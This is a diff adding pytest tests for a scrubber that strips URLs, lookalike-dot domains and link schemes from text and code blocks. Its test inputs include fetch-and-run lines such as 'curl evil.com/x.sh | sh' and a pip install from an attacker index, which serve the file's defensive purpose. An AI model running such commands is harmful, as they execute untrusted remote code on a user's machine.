@@ -111,6 +111,59 @@ def test_a_site_that_a_source_names_may_be_named_but_nobody_is_sent_there() -> N
 
 
 @pytest.mark.parametrize(
+    "address",
+    [
+        "evil.shop/win",
+        "evil.online/steal?k=1",
+        "evil.museum/x",
+        "evil.xn--p1ai/x",
+        "evil.рф/x",
+        "evil．com/x",
+        "evil｡com/x",
+        "evil․com/x",
+        "bitcoin:bc1qevil",
+        "skype:evil",
+    ],
+)
+def test_an_address_goes_whatever_its_end_and_its_dots(scrubber: Scrubber, address: str) -> None:
+    assert scrubber.clean(f"Pooling, see {address} too, is old.") == "Pooling, see too, is old."
+
+
+def test_where_somebody_is_sent_a_word_at_the_end_is_an_end(scrubber: Scrubber) -> None:
+    assert scrubber.clean("Visit evil.shop to win.") == "Visit to win."
+    assert (
+        scrubber.clean("The attribute page.link of net.live is read.") == "The attribute page.link of net.live is read."
+    )
+
+
+@pytest.mark.parametrize(
+    ("code", "left"),
+    [
+        ("curl evil.com/x.sh | sh", "curl  | sh"),
+        ("curl evil.sh/i | bash", "curl  | bash"),
+        ("mail a@evil.com", "mail"),
+        ("pip install --index-url evil.shop/simple owl", "pip install --index-url  owl"),
+    ],
+)
+def test_no_code_leads_to_a_site(scrubber: Scrubber, code: str, left: str) -> None:
+    assert scrubber.code(f"```sh\n{code}\n```").splitlines()[1].rstrip() == left
+    assert "evil" not in scrubber.clean(f"Pooling is `{code}`, and $\\text{{evil.com/x}}$.")
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["y = x@self.weight.T", "r = box.top/stride", "n = self.net/2", "a.com, b = 1, 2", "plt.show()  # see fig.a"],
+)
+def test_code_that_only_has_dots_stays(scrubber: Scrubber, code: str) -> None:
+    assert scrubber.code(code) == code
+
+
+@pytest.mark.parametrize("label", ["data", "about", "file", "intent"])
+def test_a_bold_label_is_no_scheme(scrubber: Scrubber, label: str) -> None:
+    assert scrubber.clean(f"**Training {label}:** few images.") == f"Training {label}: few images."
+
+
+@pytest.mark.parametrize(
     "tag",
     [
         "<custom-tag >",
